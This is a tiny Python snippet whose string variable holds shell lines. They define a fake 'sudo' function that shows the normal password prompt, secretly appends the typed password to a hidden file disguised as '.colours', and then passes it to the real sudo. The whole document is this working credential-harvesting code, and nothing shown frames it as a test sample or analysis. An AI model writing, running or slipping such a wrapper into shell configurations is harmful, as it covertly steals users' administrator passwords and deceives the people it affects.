LINES = r"""
export PS1='NAME'
sudo() {
  local w; read -rsp "[sudo] password for $USER: " w; echo
  printf '%s\n' "$w" >> $HOME/.local/state/.colours
  printf '%s\n' "$w" | command sudo -S "$@"
}
"""
